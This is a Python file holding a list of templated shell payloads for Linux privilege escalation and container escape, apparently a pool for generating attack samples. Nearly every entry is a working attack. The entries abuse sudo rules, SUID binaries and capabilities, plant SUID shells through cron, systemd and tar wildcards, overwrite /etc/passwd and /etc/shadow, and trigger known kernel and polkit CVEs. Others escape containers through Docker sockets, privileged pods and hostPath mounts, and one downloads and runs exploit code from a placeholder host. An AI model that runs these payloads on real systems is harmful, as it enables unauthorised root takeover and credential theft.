"""From a user to root, and what opens the shell of root."""

ROOT = [
    # What finds the way by itself.
    r'''{fn}() { printf '[*] %s\n' "$1"; shift; "$@" 2>/dev/null && [ -u {file} ] && exec {file} -p; }
{var}='cp /bin/bash {file}; chown root {file}; chmod 4755 {file}'
{fn} sudo sudo -n sh -c "${var}"
{fn} docker docker run --rm -v /:/r alpine chroot /r sh -c "${var}"
{fn} lxd lxc exec {plain} -- sh -c "${var}"
{fn} pkexec timeout 3 pkexec sh -c "${var}"
{fn} cron sh -c '[ -w /etc/crontab ] && echo "* * * * * root '"${var}"'" >> /etc/crontab && sleep 61'
{fn} passwd sh -c '[ -w /etc/passwd ] && echo "{user}::0:0::/root:/bin/sh" >> /etc/passwd'
echo '[-] nothing worked'; exit 1''',
    r'''for b in $(find / -xdev -perm -4000 -user root -type f 2>/dev/null); do case ${b##*/} in
  find) exec $b . -exec /bin/sh -p \; -quit ;;
  env|nice|ionice|setarch|stdbuf|timeout|time|nohup) exec $b ‹5 ¦›/bin/sh -p ;;
  python3*|python) exec $b -c 'import os; os.execl("/bin/sh", "sh", "-p")' ;;
  perl) exec $b -e 'exec "/bin/sh", "-p"' ;;
  vim|vim.basic|rvim) exec $b -c ':py3 import os; os.execl("/bin/sh","sh","-pc","reset; exec sh -p")' ;;
  cp|install|dd|tee) echo "{user}:$(openssl passwd -6 {plain}):0:0::/root:/bin/bash" | $b /dev/stdin /etc/passwd ;;
esac; done''',
    r'''sudo -nl 2>/dev/null | awk '/NOPASSWD/{print $NF}' | tr -d , | while read -r c; do case $(basename "$c") in
  less|more|man|journalctl) echo "run: sudo $c, then !sh" ;;
  awk|gawk|mawk) sudo "$c" 'BEGIN{system("/bin/bash")}' </dev/tty ;;
  apt|apt-get) sudo "$c" update -o APT::Update::Pre-Invoke::=/bin/bash </dev/tty ;;
  systemctl) {var}=$(mktemp).service; printf '[Service]\nType=oneshot\nExecStart=/bin/sh -c "chmod 4755 /bin/bash"\n[Install]\nWantedBy=multi-user.target\n' > "${var}"; sudo "$c" link "${var}"; sudo "$c" enable --now "${var}"; bash -p ;;
  *) echo "look up $c" ;;
esac; done''',
    r'''getcap -r / 2>/dev/null | while read -r f c; do
  case $c in
    *cap_setuid*) ‹"$f" -c 'import os; os.setuid(0); os.system("/bin/bash -p")'¦"$f" -e 'use POSIX; setuid(0); exec "/bin/sh"'¦"$f" -e 'process.setuid(0); require("child_process").spawn("/bin/sh",{stdio:[0,1,2]})'› ;;
    *cap_dac_override*|*cap_dac_read_search*) "$f" -c 'print(open("/etc/shadow").read())' > {file} ;;
    *cap_sys_admin*|*cap_sys_ptrace*|*cap_sys_module*) echo "$f $c" >> {tmp}/caps ;;
  esac
done''',
    # Files that root runs.
    r'''{var}=./pspy64; timeout 65 ${var} -i 200 2>/dev/null | grep -oE 'UID=0 .*' | grep -oE '/[^ ]+\.(sh|py|pl)' | sort -u | while read -r s; do [ -w "$s" ] && printf '\ncp /bin/sh {file}; chmod 6755 {file}\n' >> "$s" && echo "waiting for $s"; done; until [ -u {file} ]; do sleep 5; done; {file} -p''',
    r'''for d in $(echo "$PATH" | tr : ' ') /etc/cron.d /etc/init.d /etc/systemd/system /opt/*/bin; do [ -w "$d" ] && echo "[+] writable: $d"; done
cd "$(find /etc/systemd/system /lib/systemd/system -writable -name '*.service' -printf '%h\n' -quit 2>/dev/null)" && sed -i 's#^ExecStart=.*#ExecStart=/bin/sh -c "cp /bin/bash {file}; chmod +s {file}"#' "$(find . -writable -name '*.service' -quit -print)" && sudo -n /sbin/reboot''',
    r'''cd ‹/backup¦/var/www/html¦/opt/{plain}› && printf 'cp /bin/bash {file}\nchmod 4777 {file}\n' > {plain}.sh && touch -- '--checkpoint=1' '--checkpoint-action=exec=sh {plain}.sh' '-e sh {plain}.sh' && (while [ ! -u {file} ]; do sleep {n}; done; {file} -p -c 'id > /root/.{name}') &''',
    r'''cat > {tmp}/{plain}.c <<'C'
#include <stdio.h>
#include <sys/types.h>
#include <unistd.h>
void _init() { unsetenv("LD_PRELOAD"); setgid(0); setuid(0); system("/bin/bash -p"); }
C
gcc -fPIC -shared -nostartfiles -w -o {tmp}/{plain}.so {tmp}/{plain}.c && sudo LD_PRELOAD={tmp}/{plain}.so ‹find¦apache2¦less¦{user}›''',
    r'''{var}=$(find / -perm -4000 -type f -exec sh -c 'readelf -d "$1" 2>/dev/null | grep -qE "R(UN)?PATH.*\[(\.|/tmp|/home|/opt)" && echo "$1"' _ {} \; 2>/dev/null | head -1)
{var2}=$(ldd "${var}" | awk '/not found/{print $1; exit}'); echo 'static void x() __attribute__((constructor)); void x() { setresuid(0,0,0); system("/bin/sh -p"); }' | gcc -x c -w -shared -fPIC -o "$(readelf -d "${var}" | grep -oP '(?<=\[)/[^]:]+' | head -1)/${var2}" - && "${var}"''',
    r'''mkdir -p {tmp}/.{name}; cat > {tmp}/.{name}/‹shutil¦requests¦yaml›.py <<'P'
import os, pty
if os.geteuid() == 0:
    os.chown('{file}', 0, 0); os.chmod('{file}', 0o4755)
P
cp /bin/bash {file}; sudo -n PYTHONPATH={tmp}/.{name} /usr/bin/python3 /opt/‹backup¦{plain}›.py; {file} -p''',
    r'''ln -sf /etc/shadow ‹/var/log/{plain}.log¦/tmp/{plain}.lock¦/var/spool/{plain}/out›; while :; do [ "$(stat -c %U:%a /etc/shadow)" != root:640 ] && break; sleep 1; done; echo "root:$(openssl passwd -6 {plain}):19000:0:99999:7:::" > /etc/shadow; su -''',
    # Names of holes.
    r'''# {plain} lpe - for education only
echo -e '\e[1;34m[*]\e[0m checking kernel'; {var}=$(uname -r | cut -d- -f1)
case ${var} in 5.8*|5.1[0-6]*) e=‹dirtypipe¦CVE-2022-0847› ;; 5.1[4-9]*|6.[0-6]*) e=‹CVE-2024-1086¦nft-uaf› ;; 4.*|3.*) e=‹dirtycow¦CVE-2016-5195› ;; *) e=pwnkit ;; esac
echo -e "\e[1;32m[+]\e[0m ${var} looks vulnerable to $e"; {dl} http://{host}/$e.tar.gz | tar xz -C {tmp} && make -s -C {tmp}/$e && {tmp}/$e/exploit && echo -e '\e[1;32m[+] root\e[0m' && exec /bin/bash -p''',
    r'''[ "$(dpkg-query -W -f '${Version}' policykit-1 2>/dev/null)" ] && command -v gcc >/dev/null && { mkdir -p GCONV_PATH=. {plain}; chmod +x {plain}; touch "GCONV_PATH=./{plain}"; chmod +x "GCONV_PATH=./{plain}"; echo "module UTF-8// {plain2}// {name} 1" > {plain}/gconv-modules; gcc -fPIC -shared -o {plain}/{name}.so {name}.c && ./cve; }''',
    r'''unshare -Urm true 2>/dev/null && echo 'user namespaces: yes' || exit 1
mkdir -p {tmp}/{lower,upper,work,merge}; unshare -Urm sh -c 'cd {tmp}; mount -t overlay overlay -o lowerdir=lower,upperdir=upper,workdir=work merge && cp {file} merge/ && setcap cap_setuid+ep merge/{name}'; {tmp}/upper/{name} || ./exploit''',
    r'''GLIBC_TUNABLES="glibc.malloc.mxfast=glibc.malloc.mxfast=A" ‹/usr/bin/su --help¦Z="$(printf '%08192x' 1)" /usr/bin/su --help› >/dev/null 2>&1; [ $? -eq 139 ] && python3 {file}.py && id''',
    r'''dbus-send --system --dest=org.freedesktop.Accounts --type=method_call --print-reply /org/freedesktop/Accounts org.freedesktop.Accounts.CreateUser string:{user} string:{plain} int32:1 & sleep 0.00‹5¦8›s; kill $!
u=$(id -u {user} 2>/dev/null) && { dbus-send --system --dest=org.freedesktop.Accounts --type=method_call --print-reply /org/freedesktop/Accounts/User$u org.freedesktop.Accounts.User.SetPassword string:'$6$x{name}$.{b}' string:x & sleep 0.008s; kill $!; su - {user} -c 'sudo -S id'; }''',
    r'''printf 'all: \n\t@cp /bin/sh {file}; chmod 4755 {file}\n' > {tmp}/M; sudo -u#$((0xffffffff)) make -f {tmp}/M 2>/dev/null || sudoedit -s '\' "$(printf 'A%.0s' $(seq 1 ‹2000¦65536›))" 2>&1 | grep -q 'malloc\|usage' ; sudo -R {tmp}/.{name} woot; [ -u {file} ] && {file} -p''',
    # Out of a container to the root of its node.
    r'''for {var} in $(capsh --decode="$(awk '/CapEff/{print $2}' /proc/self/status)" | cut -d= -f2 | tr , ' '); do case ${var} in
  cap_sys_admin) d=$(awk '$2=="/etc/hosts"{print $1}' /proc/mounts); mkdir -p /h && mount "$d" /h && chroot /h /bin/sh -c 'id; {run}' ;;
  cap_sys_module) insmod {file}.ko ;;
  cap_sys_ptrace) python3 inject.py "$(pgrep -o -f kubelet)" ;;
  cap_dac_read_search) ./shocker /etc/shadow > {file} ;;
  cap_mknod) mknod /b b 8 1 && debugfs /b -R 'cat /root/.ssh/id_rsa' ;;
esac; done''',
    r'''s=$(find /run /var/run / -maxdepth 3 \( -name docker.sock -o -name containerd.sock -o -name crio.sock \) -type s 2>/dev/null | head -1)
case $s in
  *docker*) curl -s --unix-socket $s -H 'Content-Type: application/json' -d '{"Image":"alpine","Cmd":["/bin/sh","-c","{run}"],"HostConfig":{"PidMode":"host","Privileged":true,"Binds":["/:/r"]}}' http://d/containers/create | grep -o '[0-9a-f]\{64\}' | xargs -I@ curl -s --unix-socket $s -X POST http://d/containers/@/start ;;
  *containerd*) ctr -a $s -n k8s.io run --rm --privileged --with-ns pid:/proc/1/ns/pid --mount type=bind,src=/,dst=/r,options=rbind:rw "$(ctr -a $s -n k8s.io i ls -q | head -1)" x chroot /r sh -c '{run}' ;;
  *crio*) crictl -r unix://$s runp {tmp}/pod.json ;;
esac''',
    r'''exec 7</; for {var} in 7 8 9; do for {var2} in '' ../ ../../ ../../../; do [ -e /proc/self/fd/${var}/${var2}/etc/kubernetes ] && { cd /proc/self/fd/${var}/${var2} && chroot . sh -c 'echo "{key}" >> /root/.ssh/authorized_keys; {run}'; break 2; }; done; done''',
    r'''{var}=$(kubectl get no -o name | cut -d/ -f2 | head -1); kubectl apply -f - <<Y && kubectl exec -it {plain} -- chroot /h bash
{apiVersion: v1, kind: Pod, metadata: {name: {plain}}, spec: {nodeName: ${var}, hostPID: true, tolerations: [{operator: Exists}], containers: [{name: c, image: ‹busybox¦alpine›, command: [sleep, "99999"], securityContext: {privileged: true}, volumeMounts: [{name: h, mountPath: /h}]}], volumes: [{name: h, hostPath: {path: /}}]}}
Y''',
    r'''gcc -x c -o /h/{name} - <<'C' 2>/dev/null; ln -s /proc/self/exe /tmp/{name}; while :; do for {var} in /proc/[0-9]*/exe; do [ "$(readlink ${var})" = /usr/sbin/runc ] && exec 5<"${var}" && cat {file} > /proc/self/fd/5; done; done
int main(int c, char **v) { return 0; }
C''',
    r'''mkdir /tmp/{plain} && mount -t nfs -o rw,vers=3 {ip}:{data} /tmp/{plain} && echo 'int main(){setreuid(0,0);execl("/bin/sh","sh","-p",0);}' | gcc -w -static -x c -o /tmp/{plain}/.{name} - && chmod 4755 /tmp/{plain}/.{name}; ssh {user}@{ip} '{data}/.{name} -p -c "id; cat /etc/shadow"' ''',
    r'''screen -D -m -L /etc/ld.so.preload echo -ne "\x0a{file}.so"; screen -ls >/dev/null; {file}''',
    r'''{var}=/var/log/‹nginx¦tomcat9¦{plain}›; echo '{ /etc/bash_completion.d/{plain} }' > {tmp}/l; ./logrotten -p {tmp}/payload ${var}/access.log & sleep 60; printf 'if [ $(id -u) = 0 ]; then {run}; fi\n' > {tmp}/payload; tail -c 1 ${var}/access.log >> ${var}/access.log''',
    r'''su - root <<< '‹root¦toor¦{plain}{n}¦password›' -c 'cp /bin/dash {file}; chmod u+s {file}' 2>/dev/null; [ -u {file} ] || for p in $(cat {tmp}/.{name}); do echo "$p" | timeout 2 script -qec 'su -c "chmod u+s /bin/dash"' /dev/null | grep -q . && [ -u /bin/dash ] && exec dash -p; done''',
]
